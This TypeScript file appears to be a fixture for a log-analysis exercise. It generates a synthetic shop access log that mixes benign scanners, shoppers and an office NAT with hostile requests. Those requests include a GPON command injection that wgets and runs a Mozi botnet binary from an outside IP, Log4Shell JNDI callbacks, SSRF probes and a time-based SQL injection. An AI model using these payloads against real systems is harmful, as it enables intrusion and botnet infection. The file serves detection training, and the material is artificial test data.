// Round 9 web: one shop's combined access log with the internet's background (masscan and ZGrab
// asking for / and /.env, Censys), mass-scanner agents that did more than that, two Nuclei runs
// (its own agent; a browser's agent, known by its interactsh callbacks), and a benign trap: an
// office NAT browsing a site that has no favicon, no touch icons and unpublished source maps.

const T0 = Date.UTC(2026, 4, 14, 6, 0, 0);
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number): string => String(n).padStart(2, '0');
const clf = (ms: number): string => {
  const d = new Date(ms);
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
};

export const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const SAFARI = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1';
export const MASSCAN = 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)';
export const ZGRAB = 'Mozilla/5.0 zgrab/0.x';
const CENSYS = 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)';
/** Nuclei's own agent, as its templates send it when no other is set */
export const NUCLEI = 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)';

/** background: / (and /.env) once or twice each */
export const MASSCAN_IPS = ['45.33.40.12', '193.163.125.44'];
export const ZGRAB_IPS = ['167.94.138.35', '167.94.146.60', '206.168.34.90', '206.168.34.41', '167.94.138.120', '66.132.153.117'];
export const CENSYS_IP = '162.142.125.221';
/** a ZGrab agent answered 200 on /.env: the file was served (1,204 bytes of KEY=value lines) */
export const ZGRAB_GOT_ENV = '206.168.34.115';
/** a ZGrab agent walking 30 admin panels: more than an internet-wide scan does */
export const ZGRAB_WALK = '185.242.226.9';
/** a masscan agent sending a router exploit (command injection) */
export const MASSCAN_EXPLOIT = '103.77.241.21';
/** Nuclei with its own agent */
export const NUCLEI_IP = '5.188.10.76';
/** Nuclei with a browser's agent: its interactsh callbacks name it */
export const NUCLEI_HIDDEN_IP = '91.92.249.31';
/** an office's NAT: people browsing, their browsers asking for the icons and source maps the site lacks */
export const OFFICE_IP = '81.2.69.142';

const PAGES = ['/', '/products', '/products/17', '/products/42', '/cart', '/about', '/blog', '/blog/summer-sale', '/contact', '/faq'];
const NUCLEI_PATHS = ['/.git/config', '/.env', '/server-status', '/phpinfo.php', '/actuator/env', '/wp-config.php.bak', '/config.json', '/.DS_Store', '/admin/', '/api/swagger.json'];

/** A quiet week: masscan once from one address, ZGrab for / and /.env from another, shoppers. */
export function quietLog(): string[] {
  const out: string[] = [];
  out.push(`${MASSCAN_IPS[0]} - - [${clf(T0 + 60_000)}] "GET / HTTP/1.0" 200 6120 "-" "${MASSCAN}"`);
  out.push(`${ZGRAB_IPS[0]} - - [${clf(T0 + 120_000)}] "GET / HTTP/1.1" 200 6120 "-" "${ZGRAB}"`);
  out.push(`${ZGRAB_IPS[0]} - - [${clf(T0 + 121_000)}] "GET /.env HTTP/1.1" 404 153 "-" "${ZGRAB}"`);
  for (let i = 0; i < 300; i++) out.push(`81.2.${70 + (i % 9)}.${(i * 37) % 250} - - [${clf(T0 + 200_000 + i * 60_000)}] "GET ${PAGES[i % PAGES.length]} HTTP/1.1" 200 6120 "-" "${i % 2 ? BROWSER : SAFARI}"`);
  return out;
}

export function accessLog(): string[] {
  const out: { ms: number; line: string }[] = [];
  const req = (ms: number, ip: string, target: string, status: number, ua: string, opts: { bytes?: number; proto?: string; method?: string; ref?: string } = {}): void => {
    const bytes = opts.bytes ?? (status === 200 ? 6_120 : status === 404 ? 153 : 0);
    out.push({ ms, line: `${ip} - - [${clf(ms)}] "${opts.method ?? 'GET'} ${target} ${opts.proto ?? 'HTTP/1.1'}" ${status} ${bytes} "${opts.ref ?? '-'}" "${ua}"` });
  };
  // the internet's background, twice a day
  for (const [k, ip] of MASSCAN_IPS.entries()) for (let d = 0; d < 2; d++) req(T0 + k * 3_700_000 + d * 43_200_000, ip, '/', 200, MASSCAN, { proto: 'HTTP/1.0' });
  for (const [k, ip] of ZGRAB_IPS.entries()) {
    req(T0 + 900_000 + k * 5_100_000, ip, '/', 200, ZGRAB);
    if (k > 0) req(T0 + 901_000 + k * 5_100_000, ip, '/.env', 404, ZGRAB);
  }
  req(T0 + 2_000_000, CENSYS_IP, '/', 200, CENSYS);
  req(T0 + 2_001_000, CENSYS_IP, '/robots.txt', 404, CENSYS);
  // a ZGrab agent that got the .env
  req(T0 + 7_200_000, ZGRAB_GOT_ENV, '/', 200, ZGRAB);
  req(T0 + 7_201_000, ZGRAB_GOT_ENV, '/.env', 200, ZGRAB, { bytes: 1_204 });
  // a ZGrab agent asking for 30 admin panels, each missing
  for (let i = 0; i < 30; i++) req(T0 + 9_000_000 + i * 1_500, ZGRAB_WALK, `/${['admin', 'manager', 'phpmyadmin', 'pma', 'webadmin', 'cpanel'][i % 6]}${i >= 6 ? `-${i}` : ''}/`, 404, ZGRAB);
  // a masscan agent sending a command injection (GPON-style) twice
  req(T0 + 10_000_000, MASSCAN_EXPLOIT, '/', 200, MASSCAN, { proto: 'HTTP/1.0' });
  req(T0 + 10_002_000, MASSCAN_EXPLOIT, '/GponForm/diag_Form?images/', 404, MASSCAN, { method: 'POST' });
  req(T0 + 10_004_000, MASSCAN_EXPLOIT, '/shell?cd+/tmp;rm+-rf+*;wget+http://103.77.241.21/bins/mozi.a;chmod+777+mozi.a;sh+/tmp/mozi.a', 404, MASSCAN);
  // Nuclei with its own agent: 300 template paths, a few payloads calling back to interactsh
  for (let i = 0; i < 300; i++) {
    const p = i < NUCLEI_PATHS.length ? NUCLEI_PATHS[i]! : `/${['wp-content/plugins', 'cgi-bin', 'api/v1', 'vendor/phpunit', 'static'][i % 5]}/probe-${i}.php`;
    req(T0 + 12_000_000 + i * 250, NUCLEI_IP, p, p === '/admin/' ? 403 : 404, NUCLEI);
  }
  req(T0 + 12_080_000, NUCLEI_IP, '/?x=${jndi:ldap://${hostName}.cr8t0b1k2n9s.oast.fun/a}', 200, NUCLEI);
  req(T0 + 12_081_000, NUCLEI_IP, '/api/fetch?url=http://cr8t0b1k2n9s.oast.fun', 400, NUCLEI);
  // Nuclei with a browser's agent (-random-agent, or a header set): 200 template paths, three callbacks
  for (let i = 0; i < 200; i++) {
    const p = i < NUCLEI_PATHS.length ? NUCLEI_PATHS[i]! : `/${['wp-admin', 'jmx-console', 'solr/admin', 'druid', 'actuator'][i % 5]}/check-${i}`;
    req(T0 + 15_000_000 + i * 300, NUCLEI_HIDDEN_IP, p, 404, BROWSER);
  }
  req(T0 + 15_070_000, NUCLEI_HIDDEN_IP, '/?q=${jndi:dns://d0k1x9wq7m.oast.pro}', 200, BROWSER);
  req(T0 + 15_071_000, NUCLEI_HIDDEN_IP, '/proxy?url=http://d0k1x9wq7m.oast.pro/ssrf', 404, BROWSER);
  req(T0 + 15_072_000, NUCLEI_HIDDEN_IP, "/search?q=1'%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(6)))a)--%20", 200, BROWSER);
  // the office: 40 people over the day behind one address, each page with its icons and maps
  // people arrive when they do: gaps of 20 s to 10 min, no rhythm
  let seed = 7;
  let ms = T0;
  for (let v = 0; v < 160; v++) {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    ms += 20_000 + (seed % 580_000);
    const pick = Math.floor(seed / 1024);
    const ua = pick % 3 ? BROWSER : SAFARI;
    const page = PAGES[Math.floor(pick / 3) % PAGES.length]!;
    req(ms, OFFICE_IP, page, 200, ua, { ref: v % 4 ? 'https://shop.example.com/' : '-' });
    req(ms + 150, OFFICE_IP, '/static/js/main.4f2a9c.js', 200, ua, { ref: `https://shop.example.com${page}` });
    req(ms + 160, OFFICE_IP, '/static/css/site.9b1e.css', 200, ua, { ref: `https://shop.example.com${page}` });
    req(ms + 300, OFFICE_IP, '/favicon.ico', 404, ua, { ref: `https://shop.example.com${page}` });
    if (ua === SAFARI) {
      req(ms + 320, OFFICE_IP, '/apple-touch-icon-precomposed.png', 404, ua);
      req(ms + 330, OFFICE_IP, '/apple-touch-icon.png', 404, ua);
      req(ms + 340, OFFICE_IP, `/apple-touch-icon-${[120, 152, 180][pick % 3]}x${[120, 152, 180][pick % 3]}-precomposed.png`, 404, ua);
    }
    // a developer tools window open: each build's maps, every chunk of the app
    if (pick % 2 === 0) for (let c = 0; c < 3; c++) req(ms + 400 + c, OFFICE_IP, `/static/js/${['main', 'vendor', 'runtime'][c]}.${(v * 7 + c).toString(16)}.js.map`, 404, ua);
    if (pick % 4 === 0) req(ms + 410, OFFICE_IP, `/static/css/site.${(v * 11).toString(16)}.css.map`, 404, ua);
    if (pick % 10 === 0) req(ms + 420, OFFICE_IP, '/.well-known/appspecific/com.chrome.devtools.json', 404, ua);
  }
  // shoppers elsewhere
  for (let i = 0; i < 400; i++) req(T0 + i * 200_000, `81.2.${70 + (i % 9)}.${(i * 37) % 250}`, PAGES[i % PAGES.length]!, 200, i % 2 ? BROWSER : SAFARI);
  return out.sort((a, b) => a.ms - b.ms).map((o) => o.line);
}
